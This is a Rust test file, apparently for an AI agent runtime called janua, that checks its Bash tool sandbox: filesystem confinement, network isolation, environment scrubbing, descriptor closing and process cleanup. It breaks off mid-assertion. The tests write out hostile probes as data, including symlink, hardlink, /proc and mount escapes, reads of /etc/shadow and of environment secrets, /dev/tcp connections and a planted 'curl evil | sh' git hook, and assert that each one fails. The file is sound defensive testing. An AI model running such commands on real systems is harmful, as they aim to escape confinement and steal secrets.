//! The Bash tool and the host's process sandbox: real `/bin/bash` children under Landlock, a
//! fresh network namespace, a scrubbed environment and process-group kill.

use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use janua::{ErrorKind, PermissionMode, Runtime};

use janua::sandbox::ProcessSandbox;
use serde_json::{Value, json};

use crate::support::{Fixture, cache_dir, call, error_text, janua_bin, ok_text};

/// A runtime where every Bash command is allowed by the permission layer (bypass mode), so what
/// stops a command is the sandbox alone.
async fn permissive(fixture: &Fixture) -> Runtime {
    fixture
        .runtime(&[], |config| {
            config.permission_mode = Some(PermissionMode::BypassPermissions);
        })
        .await
}

fn bash(command: &str) -> Value {
    json!({ "command": command })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allowed_command_returns_its_output_and_exit_code() {
    let fixture = Fixture::new();
    fixture.write("notes.txt", "alpha\nbeta\n");
    let runtime = fixture
        .runtime(&[], |config| {
            config.allowed_tools = vec!["Bash(cat *),Bash(grep *),Bash(ls *)".to_owned()];
        })
        .await;
    let shown = call(&runtime, "Bash", bash("cat notes.txt")).await;
    assert_eq!(ok_text(&shown), "alpha\nbeta\n");
    let structured = shown.outcome.structured.clone().expect("structured");
    assert_eq!(structured["exitCode"], 0);
    // Exit code 1 of grep means "no match", not failure.
    let none = call(&runtime, "Bash", bash("grep gamma notes.txt")).await;
    assert!(ok_text(&none).contains("no match"), "{}", ok_text(&none));
    // Any other non-zero exit is a failure that names the code and keeps the output.
    let failed = call(&runtime, "Bash", bash("ls missing-file")).await;
    let text = error_text(&failed, ErrorKind::ToolFailed);
    assert!(text.contains("Exit code 2"), "{text}");
    assert!(text.contains("missing-file"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sandbox_stops_writes_and_reads_outside_the_workspace_that_the_rules_allowed() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let outside = fixture.outside();
    let planted = outside.join("planted.txt");
    let write = call(
        &runtime,
        "Bash",
        bash(&format!("echo pwned > {}", planted.display())),
    )
    .await;
    // Outside the grants nothing exists in the command's root.
    let text = error_text(&write, ErrorKind::ToolFailed);
    assert!(text.contains("No such file or directory"), "{text}");
    assert!(!planted.exists(), "nothing was written outside");
    let read = call(
        &runtime,
        "Bash",
        bash(&format!("cat {}", outside.join("secret.txt").display())),
    )
    .await;
    let text = error_text(&read, ErrorKind::ToolFailed);
    assert!(text.contains("No such file or directory"), "{text}");
    assert!(!text.contains("TOPSECRET"), "{text}");
    // Inside the workspace and $TMPDIR, writing works.
    let inside = call(
        &runtime,
        "Bash",
        bash(
            "echo made > made.txt && mktemp -p \"$TMPDIR\" scratch.XXXX > /dev/null && ls \"$TMPDIR\" | grep -v '^home$'",
        ),
    )
    .await;
    assert!(
        ok_text(&inside).starts_with("scratch."),
        "{}",
        ok_text(&inside)
    );
    assert_eq!(
        std::fs::read_to_string(fixture.workspace().join("made.txt")).unwrap(),
        "made\n"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_net_grant_the_tests_loopback_server_is_unreachable() {
    let fixture = Fixture::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let runtime = permissive(&fixture).await;
    let attempt = call(
        &runtime,
        "Bash",
        bash(&format!(
            "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
        )),
    )
    .await;
    let text = error_text(&attempt, ErrorKind::ToolFailed);
    assert!(!text.contains("connected\n"), "{text}");
    assert!(text.contains("Connection refused"), "{text}");
    assert!(
        listener.accept().is_err(),
        "the server saw no connection from the sandbox"
    );
}

/// What Landlock and a network namespace alone would miss: socket files of host services, device
/// nodes, kernel-wide calls, the secrets under `/etc`, and root's capabilities.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_sockets_devices_namespaces_and_etc_secrets_stay_out_of_reach() {
    let fixture = Fixture::new();
    let socket_path = fixture.outside().join("host-service.sock");
    let listener = std::os::unix::net::UnixListener::bind(&socket_path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let runtime = permissive(&fixture).await;
    let perl = format!(
        "perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die \"socket: $!\\n\"; \
         connect(S, pack_sockaddr_un($ARGV[0])) or die \"connect: $!\\n\"; print \"connected\\n\"' {}",
        socket_path.display()
    );
    let probes = [
        (perl.as_str(), "socket: Permission denied"),
        ("mknod device c 1 3", "Operation not permitted"),
        ("unshare -n true", "Operation not permitted"),
        // A process that left the group would outlive the group kill.
        ("setsid sleep 1", "Operation not permitted"),
        ("cat /etc/shadow", "Permission denied"),
    ];
    for (command, expected) in probes {
        let result = call(&runtime, "Bash", bash(command)).await;
        let text = error_text(&result, ErrorKind::ToolFailed);
        assert!(text.contains(expected), "{command}: {text}");
        assert!(!text.contains("connected\n"), "{command}: {text}");
    }
    assert!(listener.accept().is_err(), "the host socket saw no client");
    assert!(!fixture.workspace().join("device").exists());
    // What programs need still works: FIFOs, /etc/passwd, socket pairs.
    let fine = call(
        &runtime,
        "Bash",
        bash("mkfifo pipe && head -c 5 /etc/passwd && perl -MSocket -e 'socketpair(A, B, AF_UNIX, SOCK_STREAM, 0) or die; print \" pair-ok\"'"),
    )
    .await;
    assert_eq!(ok_text(&fine), "root: pair-ok");
}

/// Escapes a command might try with every rule allowing it: writing through `/proc/self/root`, a
/// symlink planted in the workspace pointing outside, a hardlink to a file outside, and mounting
/// over the workspace. Each fails in the kernel, and the canary outside is byte-identical.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proc_root_symlink_hardlink_and_mount_escapes_fail_in_the_kernel() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let outside = fixture.outside();
    let canary = outside.join("secret.txt");
    let before = std::fs::read(&canary).unwrap();
    let probes = [
        format!("echo pwned > /proc/self/root{}", canary.display()),
        format!(
            "ln -s {} out && echo pwned > out/secret.txt",
            outside.display()
        ),
        format!("ln -s {} link && echo pwned >> link", canary.display()),
        format!("ln {} hard && echo pwned >> hard", canary.display()),
        format!("mount -t tmpfs none {}", outside.display()),
        "mount --bind / mnt".to_owned(),
    ];
    for command in &probes {
        let result = call(&runtime, "Bash", bash(command)).await;
        let text = error_text(&result, ErrorKind::ToolFailed);
        assert!(!text.contains("TOPSECRET"), "{command}: {text}");
        assert_eq!(std::fs::read(&canary).unwrap(), before, "{command}: {text}");
    }
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        1,
        "nothing new outside"
    );
    // The host serves the next command as usual.
    assert_eq!(
        ok_text(&call(&runtime, "Bash", bash("echo after")).await),
        "after\n"
    );
}

#[test]
fn a_secret_in_the_hosts_environment_is_invisible_to_commands() {
    let fixture = Fixture::new();
    let output = Command::new(janua_bin())
        .args(["--permission-mode", "bypassPermissions", "--state-dir"])
        .arg(fixture.state_dir())
        .arg("--cache-dir")
        .arg(cache_dir())
        .args([
            "call",
            "Bash",
            "--input",
            r#"{"command": "env; cat /proc/$PPID/environ; echo done"}"#,
        ])
        .current_dir(fixture.workspace())
        .env("AWS_SECRET_ACCESS_KEY", "hunter2-aws-secret")
        .env("LANG", "C.UTF-8")
        .stdin(Stdio::null())
        .output()
        .expect("run janua");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("LANG=C.UTF-8"), "{stdout}");
    assert!(stdout.contains("TMPDIR="), "{stdout}");
    assert!(!stdout.contains("hunter2-aws-secret"), "{stdout}");
    assert!(!stdout.contains("AWS_SECRET_ACCESS_KEY"), "{stdout}");
}

/// The host's live processes whose command line holds `marker`. A command runs in its own PID
/// namespace, so a pid it prints names nothing on the host; a marker in its arguments (`sleep
/// 1000.101`) does.
fn marked(marker: &str) -> Vec<u32> {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    entries
        .filter_map(Result::ok)
        .filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            // A zombie waits for its reaper only.
            String::from_utf8_lossy(&cmdline).contains(marker)
                && state
                    .rsplit(')')
                    .next()
                    .and_then(|rest| rest.split(' ').nth(1))
                    != Some("Z")
        })
        .collect()
}

/// Waits until no process holds `marker` (or a few seconds pass); true when none does.
fn all_gone(marker: &str) -> bool {
    let until = Instant::now() + Duration::from_secs(5);
    while Instant::now() < until {
        if marked(marker).is_empty() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

/// Waits until a process holds `marker` (or a few seconds pass); true when one does.
fn is_running(marker: &str) -> bool {
    let until = Instant::now() + Duration::from_secs(5);
    while Instant::now() < until {
        if !marked(marker).is_empty() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_timeout_kills_the_whole_process_group() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let started = Instant::now();
    let result = call(
        &runtime,
        "Bash",
        json!({"command": "sleep 1000.101 & echo started > bg.started; sleep 1000", "timeout": 1000}),
    )
    .await;
    let text = error_text(&result, ErrorKind::ToolFailed);
    assert!(text.contains("timed out after 1000 ms"), "{text}");
    assert!(started.elapsed() < Duration::from_secs(30));
    assert!(fixture.workspace().join("bg.started").exists());
    assert!(
        all_gone("1000.101"),
        "the backgrounded sleep died with its group"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn output_past_the_cap_is_cut_and_the_command_killed() {
    let fixture = Fixture::new();
    let runtime = fixture
        .runtime(&[], |config| {
            config.permission_mode = Some(PermissionMode::BypassPermissions);
            config.process_output_cap = 1 << 20;
        })
        .await;
    let result = call(&runtime, "Bash", bash("yes janua; echo never-reached")).await;
    // Past 10,000 characters a failure is cut to its head and tail, the marker first.
    assert_eq!(result.error_kind(), Some(ErrorKind::ToolFailed));
    let text = result.block.text();
    assert!(
        text.starts_with("[janua: output truncated: kept the first 4800 and last 4800"),
        "{text}"
    );
    assert!(text.contains("passed the 1048576-byte cap"), "{text}");
    assert!(!text.contains("never-reached"));
    assert!(text.chars().count() < 12_000, "a bounded excerpt");
    let spooled = saved_outputs(&fixture).pop().expect("an output file");
    assert_eq!(std::fs::metadata(spooled).unwrap().len(), 1 << 20);
}

/// The session's saved outputs (`tool-results/process-*`).
fn saved_outputs(fixture: &Fixture) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(fixture.state_dir())
        .unwrap()
        .flat_map(|workspace| std::fs::read_dir(workspace.unwrap().path()).unwrap())
        .map(|session| session.unwrap().path().join("tool-results"))
        .filter(|results| results.is_dir())
        .flat_map(|results| std::fs::read_dir(results).unwrap())
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.to_string_lossy().contains("process-"))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_silent_command_leaves_no_output_file_and_one_that_prints_leaves_its_output() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    for _ in 0..3 {
        let result = call(&runtime, "Bash", bash("true")).await;
        assert_eq!(ok_text(&result), "");
        let structured = result.outcome.structured.clone().unwrap();
        assert!(structured["persistedOutputPath"].is_null(), "{structured}");
    }
    assert_eq!(saved_outputs(&fixture), Vec::<std::path::PathBuf>::new());
    let result = call(&runtime, "Bash", bash("echo kept")).await;
    assert_eq!(ok_text(&result), "kept\n");
    let structured = result.outcome.structured.clone().unwrap();
    let path = structured["persistedOutputPath"].as_str().unwrap();
    assert_eq!(
        saved_outputs(&fixture),
        vec![std::path::PathBuf::from(path)]
    );
    assert_eq!(std::fs::read_to_string(path).unwrap(), "kept\n");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn large_output_is_saved_to_a_file_that_read_can_open() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let result = call(&runtime, "Bash", bash("seq 1 20000")).await;
    let text = ok_text(&result);
    assert!(text.starts_with("1\n2\n3\n"), "{text}");
    assert!(text.len() < 5_000, "a preview: {} chars", text.len());
    let structured = result.outcome.structured.clone().unwrap();
    let path = structured["persistedOutputPath"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(structured["persistedOutputSize"], 108_894);
    assert!(text.contains(&path), "{text}");
    let read = call(
        &runtime,
        "Read",
        json!({"file_path": path, "offset": 19_999, "limit": 2}),
    )
    .await;
    let page = ok_text(&read);
    assert!(page.contains("19999") && page.contains("20000"), "{page}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_working_directory_persists_inside_the_workspace_and_resets_outside() {
    let fixture = Fixture::new();
    let workspace = fixture.workspace();
    {
        let runtime = permissive(&fixture).await;
        ok_text(
            &call(
                &runtime,
                "Bash",
                bash("mkdir -p sub/deeper && cd sub/deeper"),
            )
            .await,
        );
        let here = call(&runtime, "Bash", bash("pwd; export LEAK=1")).await;
        assert_eq!(
            ok_text(&here),
            format!("{}\n", workspace.join("sub/deeper").display())
        );
        // Environment changes do not persist.
        let env = call(&runtime, "Bash", bash("echo \"[${LEAK:-unset}]\"")).await;
        assert_eq!(ok_text(&env), "[unset]\n");
    }
    // The directory outlives the process: a new runtime on the same session starts there.
    let runtime = permissive(&fixture).await;
    let again = call(&runtime, "Bash", bash("pwd")).await;
    assert_eq!(
        ok_text(&again),
        format!("{}\n", workspace.join("sub/deeper").display())
    );
    let outside = call(&runtime, "Bash", bash("cd / && pwd")).await;
    let text = ok_text(&outside);
    assert!(text.contains("Shell cwd was reset to"), "{text}");
    let back = call(&runtime, "Bash", bash("pwd")).await;
    assert_eq!(ok_text(&back), format!("{}\n", workspace.display()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn background_tasks_report_output_and_stop_with_everything_they_started() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let started = call(
        &runtime,
        "Bash",
        json!({"command": "echo begin; sleep 0.3; echo end", "run_in_background": true}),
    )
    .await;
    let id = started.outcome.structured.clone().unwrap()["backgroundTaskId"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(ok_text(&started).contains(&id));
    let output = call(&runtime, "TaskOutput", json!({"task_id": id})).await;
    let text = ok_text(&output);
    assert!(text.contains("exited with code 0"), "{text}");
    assert!(text.contains("begin\nend\n"), "{text}");
    // Only new output the second time.
    let again = call(
        &runtime,
        "TaskOutput",
        json!({"task_id": id, "block": false}),
    )
    .await;
    assert!(ok_text(&again).contains("(no new output)"));

    let ticking = call(
        &runtime,
        "Bash",
        json!({
            "command": "sleep 1000.202 & while true; do echo tick; sleep 0.05; done",
            "run_in_background": true
        }),
    )
    .await;
    let ticker = ticking.outcome.structured.clone().unwrap()["backgroundTaskId"]
        .as_str()
        .unwrap()
        .to_owned();
    let running = call(
        &runtime,
        "TaskOutput",
        json!({"task_id": ticker, "timeout": 300}),
    )
    .await;
    let text = ok_text(&running);
    assert!(
        text.contains("(running)") && text.contains("tick"),
        "{text}"
    );
    assert!(is_running("1000.202"), "the task's child runs");
    let stopped = call(&runtime, "TaskStop", json!({"task_id": ticker})).await;
    assert!(
        ok_text(&stopped).contains("killed by signal 9"),
        "{}",
        ok_text(&stopped)
    );
    assert!(all_gone("1000.202"), "the task's child died with it");
    let unknown = call(&runtime, "TaskOutput", json!({"task_id": "task-99"})).await;
    let text = error_text(&unknown, ErrorKind::ToolFailed);
    assert!(text.contains("unknown_task"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn background_tasks_die_with_the_session() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let started = call(
        &runtime,
        "Bash",
        json!({"command": "sleep 1000.303", "run_in_background": true}),
    )
    .await;
    ok_text(&started);
    assert!(is_running("1000.303"), "running while the session is open");
    drop(runtime);
    assert!(all_gone("1000.303"), "the task died with the session");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_the_sandbox_bash_refuses_unless_the_operator_opts_out() {
    let fixture = Fixture::new();
    let secret = fixture.outside().join("secret.txt");
    let refused = fixture
        .runtime(&[], |config| {
            config.permission_mode = Some(PermissionMode::BypassPermissions);
            config.process_sandbox = ProcessSandbox::Unavailable;
        })
        .await;
    let result = call(&refused, "Bash", bash("echo should-not-run")).await;
    let text = error_text(&result, ErrorKind::ToolFailed);
    assert!(text.contains("sandbox_unavailable"), "{text}");
    assert!(text.contains("--unsandboxed-process"), "{text}");
    drop(refused);
    let unsandboxed = fixture
        .runtime(&[], |config| {
            config.permission_mode = Some(PermissionMode::BypassPermissions);
            config.process_sandbox = ProcessSandbox::Unsandboxed;
        })
        .await;
    let read = call(
        &unsandboxed,
        "Bash",
        bash(&format!("cat {}", secret.display())),
    )
    .await;
    assert_eq!(ok_text(&read), "TOPSECRET-outside\n");
}

#[test]
fn doctor_reports_what_the_kernel_supports() {
    let output = Command::new(janua_bin())
        .args(["doctor", "--json"])
        .output()
        .expect("run janua doctor");
    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert!(report["landlock_abi"].as_i64().unwrap() >= 1, "{report}");
    assert_eq!(report["process_sandbox"], true, "{report}");
    assert_eq!(report["view_namespaces"], true, "{report}");
    assert_eq!(report["user_namespace"], true, "{report}");
    assert_eq!(output.status.code(), Some(0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_runs_at_most_sixteen_background_tasks() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let background = json!({"command": "sleep 1000", "run_in_background": true});
    for _ in 0..16 {
        ok_text(&call(&runtime, "Bash", background.clone()).await);
    }
    let refused = call(&runtime, "Bash", background.clone()).await;
    let text = error_text(&refused, ErrorKind::ToolFailed);
    assert!(text.contains("16 background tasks are running"), "{text}");
    ok_text(&call(&runtime, "TaskStop", json!({"task_id": "task-1"})).await);
    ok_text(&call(&runtime, "Bash", background).await);
}

/// A plugin granted only `/bin/echo` gets exactly that: not Bash's background task, not another
/// program or argument, no ungranted or smuggled environment name, no directory outside the
/// workspace.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
pub(crate) async fn redteam_process() {
    let fixture = Fixture::new();
    let plugin = fixture.plugin(
        "intrude",
        janua_test_guests::REDTEAM_PROCESS,
        "grants = { process = [{ program = \"/bin/echo\", args = [\"*\"], env = [\"*_OK\"] }] }",
    );
    let runtime = fixture
        .runtime(&[plugin], |config| {
            config.permission_mode = Some(PermissionMode::BypassPermissions);
        })
        .await;
    let started = call(
        &runtime,
        "Bash",
        json!({"command": "sleep 1000", "run_in_background": true}),
    )
    .await;
    let task = started.outcome.structured.clone().unwrap()["backgroundTaskId"]
        .as_str()
        .unwrap()
        .to_owned();
    let result = call(&runtime, "Intrude", json!({"task_id": task})).await;
    let report = result
        .outcome
        .structured
        .clone()
        .expect("structured report");
    let outcome = |key: &str| report[key].as_str().unwrap().to_owned();
    assert!(outcome("granted").starts_with("ok: "), "{report}");
    for (key, kind) in [
        ("read_task", "unknown_task"),
        ("stop_task", "unknown_task"),
        ("other_program", "permission_denied"),
        ("extra_argument", "permission_denied"),
        ("env_not_granted", "permission_denied"),
        ("env_smuggled", "permission_denied"),
        ("cwd_outside", "spawn_failed"),
    ] {
        assert!(
            outcome(key).starts_with(&format!("err: {kind}: ")),
            "{key}: {report}"
        );
    }
    // Bash's task is untouched: still running, still Bash's to read.
    let still = call(
        &runtime,
        "TaskOutput",
        json!({"task_id": task, "block": false}),
    )
    .await;
    assert!(ok_text(&still).contains("(running)"), "{}", ok_text(&still));
}

/// Runs `command` with `secret` on descriptor 7 and `socket` on 8 (one digit: `/bin/sh` hooks
/// read no more), both inheritable in the child only (the test process keeps them
/// close-on-exec, so no other test's child gets them).
fn with_inherited(command: &mut Command, secret: &std::fs::File, socket: &std::net::TcpStream) {
    use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
    use std::os::unix::process::CommandExt as _;
    // Copies above 100 first: a source that happened to be 7 or 8 would be overwritten by the
    // other's dup2 (other tests open and close descriptors in this process all the time).
    let high = |fd: i32| {
        // SAFETY: F_DUPFD_CLOEXEC returns a new descriptor this function owns.
        let copy = unsafe { libc::fcntl(fd, libc::F_DUPFD_CLOEXEC, 100) };
        assert!(copy >= 100, "{}", std::io::Error::last_os_error());
        // SAFETY: `copy` is a fresh descriptor owned by nobody else.
        unsafe { OwnedFd::from_raw_fd(copy) }
    };
    let sources = [high(secret.as_raw_fd()), high(socket.as_raw_fd())];
    // SAFETY: dup2 is async-signal-safe; the closure owns the sources until the command drops.
    unsafe {
        command.pre_exec(move || {
            for (from, to) in sources.iter().zip([7, 8]) {
                if libc::dup2(from.as_raw_fd(), to) == -1 {
                    return Err(std::io::Error::last_os_error());
                }
            }
            Ok(())
        });
    }
}

/// A loopback listener and a connected client; the returned thread yields every byte the server
/// side receives until all copies of the client are closed.
fn listening_pair() -> (std::net::TcpStream, std::thread::JoinHandle<String>) {
    use std::io::Read as _;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let client = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let (mut server, _) = listener.accept().unwrap();
    server
        .set_read_timeout(Some(Duration::from_secs(60)))
        .unwrap();
    let received = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = server.read_to_string(&mut text);
        text
    });
    (client, received)
}

/// Issue 31, point 1: a file and a connected socket that janua's parent left inheritable reach
/// neither a Bash command nor a command hook (the control: a plain bash child of the same parent
/// reads the secret and talks to the listener through them).
#[test]
fn descriptors_janua_inherited_reach_no_child() {
    let fixture = Fixture::new();
    let leak = "cat <&7; echo leaked-by-command >&8";
    let secret = std::fs::File::open(fixture.outside().join("secret.txt")).unwrap();

    let (client, received) = listening_pair();
    let mut control = Command::new("/bin/bash");
    control.args(["-c", leak]).stdin(Stdio::null());
    with_inherited(&mut control, &secret, &client);
    let output = control.output().unwrap();
    // The command holds copies of both descriptors: drop it so the listener sees the end.
    drop((control, client));
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("TOPSECRET-outside"),
        "the control did not inherit the file: {output:?}"
    );
    assert_eq!(received.join().unwrap(), "leaked-by-command\n");

    // A fresh open: the control's `cat` moved the shared offset to the end.
    let secret = std::fs::File::open(fixture.outside().join("secret.txt")).unwrap();
    let (client, received) = listening_pair();
    let hook = "cat <&7 >&2; echo leaked-by-hook >&8; exit 0";
    let settings = json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": hook, "timeout": 10}
    ]}]}})
    .to_string();
    let input = bash(leak).to_string();
    let mut janua = Command::new(janua_bin());
    janua
        .args([
            "--permission-mode",
            "bypassPermissions",
            "--settings",
            &settings,
        ])
        .args(["call", "Bash", "--input", &input, "--state-dir"])
        .arg(fixture.state_dir())
        .arg("--cache-dir")
        .arg(cache_dir())
        .current_dir(fixture.workspace())
        .env("XDG_CONFIG_HOME", fixture.config_home())
        .stdin(Stdio::null());
    with_inherited(&mut janua, &secret, &client);
    let output = janua.output().unwrap();
    drop((janua, client));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("Bad file descriptor"), "{stdout}");
    assert!(!stdout.contains("TOPSECRET"), "{stdout}");
    assert!(
        !String::from_utf8_lossy(&output.stderr).contains("TOPSECRET"),
        "{output:?}"
    );
    assert_eq!(received.join().unwrap(), "", "a child wrote to the socket");
}

/// Issue 31, point 1, for embedders: a descriptor the embedding program left inheritable does
/// not reach a Bash command the library starts (`close_range` between fork and exec).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn descriptors_an_embedder_left_inheritable_reach_no_child() {
    use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
    let fixture = Fixture::new();
    let secret = std::fs::File::open(fixture.outside().join("secret.txt")).unwrap();
    // An inheritable copy, closed again at the end of the test.
    // SAFETY: F_DUPFD returns a new descriptor this test owns.
    let inheritable =
        unsafe { OwnedFd::from_raw_fd(libc::fcntl(secret.as_raw_fd(), libc::F_DUPFD, 200)) };
    let fd = inheritable.as_raw_fd();
    assert!(fd >= 200);
    let runtime = permissive(&fixture).await;
    let result = call(&runtime, "Bash", bash(&format!("cat <&{fd}"))).await;
    drop(inheritable);
    let text = match result.block.is_error {
        true => error_text(&result, ErrorKind::ToolFailed),
        false => ok_text(&result),
    };
    assert!(!text.contains("TOPSECRET"), "{text}");
    assert!(text.contains("Bad file descriptor"), "{text}");
}

/// Issue 31, point 4: inside the sandbox a command has a private HOME whose `.gitconfig` holds
/// only the operator's identity, so git's everyday commands work (they failed on the unreadable
/// host home) while the host's hooks path, aliases and keys stay out of reach. The control: git
/// on the host reads the hooks path from the same home.
#[test]
fn git_works_under_a_private_home_and_the_hosts_home_stays_unreadable() {
    let fixture = Fixture::new();
    let host_home = fixture.outside().join("home");
    std::fs::create_dir_all(host_home.join(".ssh")).unwrap();
    std::fs::write(host_home.join(".ssh/id_ed25519"), "PRIVATE-KEY-BYTES\n").unwrap();
    std::fs::write(
        host_home.join(".gitconfig"),
        "[user]\n\tname = Janua Tester\n\temail = tester@example.com\n[core]\n\thooksPath = /tmp/evil-hooks\n[alias]\n\tst = !touch pwned\n",
    )
    .unwrap();
    fixture.write("notes.txt", "hello\n");
    let control = Command::new("git")
        .args(["config", "--global", "--get", "core.hooksPath"])
        .env("HOME", &host_home)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&control.stdout).trim(),
        "/tmp/evil-hooks"
    );
    let home = host_home.display();
    let command = format!(
        "git init -q && git add -A && git commit -qm first && git log --format=%an:%ae \
         && echo more >> notes.txt && git diff --stat && git stash -q && git status --short \
         && git branch feature && git branch --list | wc -l; \
         git config --get core.hooksPath; echo hooks=$?; git st; \
         cat {home}/.ssh/id_ed25519; cat {home}/.gitconfig"
    );
    let input = bash(&command).to_string();
    let output = Command::new(janua_bin())
        .args([
            "--no-user-settings",
            "--permission-mode",
            "bypassPermissions",
        ])
        .args(["call", "Bash", "--input", &input, "--state-dir"])
        .arg(fixture.state_dir())
        .arg("--cache-dir")
        .arg(cache_dir())
        .current_dir(fixture.workspace())
        .env("HOME", &host_home)
        .output()
        .unwrap();
    let block: Value = serde_json::from_slice(&output.stdout).expect("a tool_result");
    let text = block["content"].as_str().unwrap_or_default();
    assert!(
        text.contains("Janua Tester:tester@example.com"),
        "git commit ran with the operator's identity: {text}"
    );
    assert!(text.contains("notes.txt | 1 +"), "{text}");
    assert!(text.contains("hooks=1"), "{text}");
    assert!(!text.contains("PRIVATE-KEY-BYTES"), "{text}");
    assert!(!text.contains("evil-hooks"), "{text}");
    assert!(!fixture.workspace().join("pwned").exists());
    assert_eq!(
        text.lines().filter(|line| line.trim() == "2").count(),
        1,
        "two branches: {text}"
    );
}

/// Issue 31, point 4: a toolchain on PATH under the host's home (rustup's `cargo` here) runs in
/// the sandbox, when the host has one; HOME is the private one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_toolchain_under_the_hosts_home_runs_in_the_sandbox() {
    let host = Command::new("cargo").arg("--version").output().ok();
    let Some(host) = host.filter(|output| output.status.success()) else {
        return;
    };
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let result = call(&runtime, "Bash", bash("cargo --version; echo home=$HOME")).await;
    let text = ok_text(&result);
    assert!(
        text.contains(String::from_utf8_lossy(&host.stdout).trim()),
        "{text}"
    );
    assert!(text.contains("/tmp/home"), "{text}");
}

/// `janua ARGS... call Bash` with `command` in the fixture's workspace: the result text.
fn bash_through_janua(fixture: &Fixture, args: &[&str], command: &str) -> String {
    let input = bash(command).to_string();
    let output = Command::new(janua_bin())
        .args([
            "--no-user-settings",
            "--permission-mode",
            "bypassPermissions",
        ])
        .args(args)
        .args(["call", "Bash", "--input", &input, "--state-dir"])
        .arg(fixture.state_dir())
        .arg("--cache-dir")
        .arg(cache_dir())
        .current_dir(fixture.workspace())
        .output()
        .unwrap();
    let block: Value = serde_json::from_slice(&output.stdout).expect("a tool_result");
    block["content"].as_str().unwrap_or_default().to_owned()
}

/// Issue 31, point 2 (first step): a program the rule engine does not read (`python3`) can
/// neither read a `Read`-denied file (at any depth) nor change an `Edit`-denied tree or a
/// protected path (`.git/hooks`, `.git/config`, `.janua/`), not even through a hard link: the
/// kernel refuses, in the command's own mount namespace. Controls in the same test: without the
/// rules, or with the process sandbox off, the same commands read and write.
#[test]
fn deny_rules_and_protected_paths_hold_for_programs_the_rules_cannot_read() {
    let fixture = Fixture::new();
    let ws = fixture.workspace();
    fixture.write(".env", "TOP-SECRET-ENV\n");
    fixture.write("deep/er/.env", "DEEP-SECRET-ENV\n");
    fixture.write("src/main.rs", "fn main() {}\n");
    fixture.write(".git/config", "[core]\n");
    fixture.write(".janua/settings.json", "{}\n");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    let py = |code: &str| format!("python3 -c '{code}' 2>&1 | tail -1; ");
    let command = [
        py("print(repr(open(\".env\").read()))"),
        py("print(repr(open(\"deep/er/.env\").read()))"),
        py("open(\"src/main.rs\", \"a\").write(\"// changed\")"),
        py("open(\".git/hooks/pre-commit\", \"w\").write(\"curl evil | sh\")"),
        py("open(\".git/config\", \"a\").write(\"[core] fsmonitor = evil\")"),
        py("import os; os.link(\".git/config\", \"gc\")"),
        py("open(\".janua/settings.local.json\", \"w\").write(\"{}\")"),
    ]
    .concat();
    let rules = [
        "--disallowedTools",
        "Read(.env)",
        "--disallowedTools",
        "Edit(src/**)",
    ];
    let text = bash_through_janua(&fixture, &rules, &command);
    assert!(!text.contains("SECRET-ENV"), "{text}");
    assert_eq!(
        text.matches("''\n").count(),
